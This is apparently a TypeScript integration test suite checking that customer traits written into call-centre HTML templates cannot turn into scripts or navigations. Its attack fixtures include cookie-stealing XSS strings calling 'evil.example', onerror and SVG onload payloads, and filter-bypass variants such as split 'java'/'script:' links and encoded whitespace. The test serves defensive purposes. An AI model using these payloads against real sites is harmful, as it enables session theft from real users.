/**
 * HTML content fields over HTTP (docs/catalog.md, *Escaping by field*): a
 * trait that anyone holding the public write key can set for any userId
 * (events need no user token), rendered by an operator's call-centre script
 * into a srcset, CSS, a refresh or through `| raw`, never reaches the
 * agent's screen as a script or a navigation: that script is not served
 * (the next action is); with harmless traits, it is. Nor does a link split
 * over two traits, a value written after a `{% capture %}` or by a
 * `{% cycle %}`. A script whose Liquid branches leave different places of
 * the markup, or that writes a value into its own `javascript:` URL, is
 * refused (400), and the catalog in place stays.
 */
import { assert, describe, expect, it } from 'vitest';
import { useLocalStack } from '../support/stack.ts';
import { call, decide, identify, sendEvents, uniqueId, waitForProfile, type Decision, type StackAccess } from './fixtures/kairos.ts';

let api: StackAccess;
useLocalStack((_started, access) => {
  api = access;
});

const SCRIPT =
  '<meta http-equiv="refresh" content="600;url={{ nextCase }}">' +
  '<img srcset="/avatars/default.png 1x, {{ avatar }} 2x">' +
  '<div style="background:url({{ banner }})"><p>{{ note | raw }}</p></div>';

const CATALOG = {
  learning: { enabled: false, exploration: 0 },
  policies: { consentRequired: [] },
  actions: [
    { id: 'crm-script', name: 'crm script', value: 10, content: { call_center: { script: SCRIPT } } },
    { id: 'plain-script', name: 'plain script', content: { call_center: { script: '<p>Saluda al cliente.</p>' } } },
  ],
};

const HARMLESS = { nextCase: '/cases/next', avatar: '/avatars/42.png', banner: '/banners/gold.png', note: 'Cliente desde 2019 &amp; VIP' };

/** The call centre's back-end asks (server key) until decide serves one of these actions (this catalog) to the customer. */
async function scriptFor(userId: string, actions: readonly string[] = ['crm-script', 'plain-script']): Promise<Decision> {
  const deadline = Date.now() + 40_000;
  for (;;) {
    const answer = await decide(api, { userId, channel: 'call_center', limit: 1 });
    const id = answer.actions[0]?.actionId ?? '';
    if (actions.includes(id) || Date.now() > deadline) return answer;
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
}

describe('html content fields', () => {
  it('a trait set by anyone with the public key does not become a script or a navigation in an agent\'s script: srcset, CSS url(, a refresh, | raw', async () => {
    const put = await call(api, 'PUT', '/v1/admin/catalog', { auth: 'admin', body: CATALOG });
    assert.equal(put.status, 200, put.text.slice(0, 500));

    // Harmless traits: the operator's script is served, each value where the template puts it.
    const customer = uniqueId('customer');
    expect((await sendEvents(api, [identify({ userId: customer }, HARMLESS)])).accepted).toBe(1);
    await waitForProfile(api, customer, (p) => (p.traits as { note?: unknown }).note === HARMLESS.note);
    const served = await scriptFor(customer);
    expect(served.actions.map((a) => ({ actionId: a.actionId, script: a.content.script }))).toEqual([
      {
        actionId: 'crm-script',
        script:
          '<meta http-equiv="refresh" content="600;url=/cases/next">' +
          '<img srcset="/avatars/default.png 1x, /avatars/42.png 2x">' +
          '<div style="background:url(/banners/gold.png)"><p>Cliente desde 2019 &amp; VIP</p></div>',
      },
    ]);

    // The attacker: the public key only, no user token, one hostile trait per victim.
    const attacks: Record<string, string> = {
      nextCase: 'javascript:fetch("https://evil.example/?c="+document.cookie)',
      avatar: 'data:image/svg+xml,<svg onload=alert(1)>',
      banner: 'javascript:alert(1)',
      note: '<img src=x onerror=alert(document.cookie)>',
    };
    for (const [trait, value] of Object.entries(attacks)) {
      const victim = uniqueId('victim');
      expect((await sendEvents(api, [identify({ userId: victim }, { ...HARMLESS, [trait]: value })])).accepted).toBe(1);
      await waitForProfile(api, victim, (p) => (p.traits as Record<string, unknown>)[trait] === value);
      const attacked = await scriptFor(victim);
      expect({ trait, served: attacked.actions.map((a) => ({ actionId: a.actionId, script: a.content.script })) }).toEqual({
        trait,
        served: [{ actionId: 'plain-script', script: '<p>Saluda al cliente.</p>' }],
      });
    }
  });

  it('a script whose {% if %} branches leave different places of the markup is refused with its path, the block\'s position and how to fix it, and changes nothing', async () => {
    // On the vip path the value lands in the href; on the other in text: it could not be checked where it lands.
    const script = '<p>Hola</p>{% if vip %}<a href="{% else %}<b>{{ note }}</b>{% endif %}">ficha</a>';
    const catalog = { ...CATALOG, actions: [{ id: 'branchy', name: 'branchy', content: { call_center: { script } } }] };
    for (const path of ['/v1/admin/catalog/validate', '/v1/admin/catalog']) {
      const refused = await call<{ error: { details: { path: string; position?: number; message: string }[] } }>(api, path.endsWith('validate') ? 'POST' : 'PUT', path, {
        auth: 'admin',
        body: catalog,
      });
      assert.equal(refused.status, 400, refused.text.slice(0, 500));
      expect(refused.json.error.details).toEqual([
        expect.objectContaining({
          path: 'actions[0].content.call_center.script',
          position: 11,
          message: expect.stringMatching(/branches of the \{% if %\} at 11 end in different HTML contexts .*close in each branch the tag or attribute it opens/),
        }),
      ]);
    }
    // The catalog in place is still the one published before.
    const answer = await decide(api, { userId: uniqueId('after'), channel: 'call_center', limit: 1 });
    expect(answer.actions.map((a) => a.actionId)).toEqual(['crm-script']);
  });

  it('a link split over two traits, a value after a {% capture %} or written by {% cycle %} is judged where it lands and not served; a value written into the template\'s own javascript: URL is refused (400) and changes nothing', async () => {
    const script =
      '<a href="{{ crmBase }}{{ crmPath }}">ficha</a>' +
      '<a href="{% capture note %}">{% endcapture %}{{ nextCase }}">siguiente</a>' +
      '<script>crm.tier = {% cycle tier %};</script>';
    const catalog = {
      ...CATALOG,
      actions: [{ id: 'crm-split', name: 'crm split', value: 10, content: { call_center: { script } } }, CATALOG.actions[1]],
    };
    const put = await call(api, 'PUT', '/v1/admin/catalog', { auth: 'admin', body: catalog });
    assert.equal(put.status, 200, put.text.slice(0, 500));

    const harmless = { crmBase: '/crm/', crmPath: 'c/42', nextCase: '/cases/next', tier: '3' };
    const customer = uniqueId('customer');
    expect((await sendEvents(api, [identify({ userId: customer }, harmless)])).accepted).toBe(1);
    await waitForProfile(api, customer, (p) => (p.traits as { tier?: unknown }).tier === '3');
    const served = await scriptFor(customer, ['crm-split']);
    expect(served.actions.map((a) => ({ actionId: a.actionId, script: a.content.script }))).toEqual([
      { actionId: 'crm-split', script: '<a href="/crm/c/42">ficha</a><a href="/cases/next">siguiente</a><script>crm.tier = 3;</script>' },
    ]);

    // Each trait alone is no script URL; what the browser reads is.
    const attacks: Record<string, string>[] = [
      { crmBase: 'java', crmPath: 'script:fetch("https://evil.example/?c="+document.cookie)' },
      { nextCase: 'javascript:alert(document.cookie)' },
      { tier: '1;fetch("https://evil.example/?c="+document.cookie)' },
    ];
    for (const attack of attacks) {
      const victim = uniqueId('victim');
      const traits = { ...harmless, ...attack };
      expect((await sendEvents(api, [identify({ userId: victim }, traits)])).accepted).toBe(1);
      await waitForProfile(api, victim, (p) => Object.entries(attack).every(([k, v]) => (p.traits as Record<string, unknown>)[k] === v));
      const attacked = await scriptFor(victim, ['crm-split', 'plain-script']);
      expect({ attack, served: attacked.actions.map((a) => ({ actionId: a.actionId, script: a.content.script })) }).toEqual({
        attack,
        served: [{ actionId: 'plain-script', script: '<p>Saluda al cliente.</p>' }],
      });
    }

    // The operator's own script URL with a value in it: refused with its path, position and why, at validate and at publish.
    const own = { ...CATALOG, actions: [{ id: 'own-js', name: 'own js', content: { call_center: { script: '<p>Hola</p><a href=" JaVa&#x09;Script:crm.open(\'{{ caseId }}\')">ficha</a>' } } }] };
    for (const path of ['/v1/admin/catalog/validate', '/v1/admin/catalog']) {
      const refused = await call<{ error: { details: { path: string; position?: number; message: string }[] } }>(api, path.endsWith('validate') ? 'POST' : 'PUT', path, { auth: 'admin', body: own });
      assert.equal(refused.status, 400, refused.text.slice(0, 500));
      expect(refused.json.error.details).toEqual([
        expect.objectContaining({
          path: 'actions[0].content.call_center.script',
          position: 20,
          message: expect.stringMatching(/a value is written into the href attribute of <a> after the template's own text .*javascript: URL/),
        }),
      ]);
    }
    const after = await scriptFor(customer, ['crm-split']);
    expect(after.actions.map((a) => a.actionId)).toEqual(['crm-split']);
  });

  it('a link written at the start of an href after text a {% capture %} keeps, or after a control character or a character reference the browser strips (&#32; &Tab;), or set by an SVG animation, is checked as a link', async () => {
    // What a capture holds is not written where it stands, and a URL's leading spaces and C0 control characters
    // are stripped however they are written: in each script the trait begins the href.
    const scripts = [
      '<a href="{% capture path %}/cases/{% endcapture %}{{ crm }}">ficha</a>',
      '<a href="&#32;{{ crm }}">ficha</a>',
      '<a href="&Tab;{{ crm }}">ficha</a>',
      '<a href="&#x0A;{% if vip %}{% endif %}{{ crm }}">ficha</a>',
      '<a href="\u0001{{ crm }}">ficha</a>',
      // An SVG animation sets the link it names: its to, from, by and values are links too.
      '<svg><a><set attributeName="href" to="{{ crm }}"/><text>ficha</text></a></svg>',
      '<svg><a><animate attributeName="href" values="/cases/0;{{ crm }}"/><text>ficha</text></a></svg>',
    ];
    const harmless = uniqueId('customer');
    const victim = uniqueId('victim');
    expect((await sendEvents(api, [identify({ userId: harmless }, { crm: '/cases/42' }), identify({ userId: victim }, { crm: 'javascript:alert(document.cookie)' })])).accepted).toBe(2);
    await waitForProfile(api, harmless, (p) => (p.traits as { crm?: unknown }).crm === '/cases/42');
    await waitForProfile(api, victim, (p) => typeof (p.traits as { crm?: unknown }).crm === 'string');
    for (const [i, script] of scripts.entries()) {
      const actionId = `crm-link-${i}`;
      const catalog = { ...CATALOG, actions: [{ id: actionId, name: 'crm link', value: 10, content: { call_center: { script } } }, CATALOG.actions[1]] };
      const put = await call(api, 'PUT', '/v1/admin/catalog', { auth: 'admin', body: catalog });
      assert.equal(put.status, 200, put.text.slice(0, 500));
      // With a harmless trait the script is served (once decide has this catalog), the link where the template puts it.
      const deadline = Date.now() + 40_000;
      let served = await decide(api, { userId: harmless, channel: 'call_center', limit: 1 });
      while (served.actions[0]?.actionId !== actionId && Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 250));
        served = await decide(api, { userId: harmless, channel: 'call_center', limit: 1 });
      }
      expect({ script, actionIds: served.actions.map((a) => a.actionId) }).toEqual({ script, actionIds: [actionId] });
      expect(served.actions[0]?.content.script).toContain('/cases/42');
      // With the attacker's trait it is not: the next action is.
      const attacked = await decide(api, { userId: victim, channel: 'call_center', limit: 1 });
      expect({ script, served: attacked.actions.map((a) => ({ actionId: a.actionId, script: a.content.script })) }).toEqual({
        script,
        served: [{ actionId: 'plain-script', script: '<p>Saluda al cliente.</p>' }],
      });
    }
  });
});
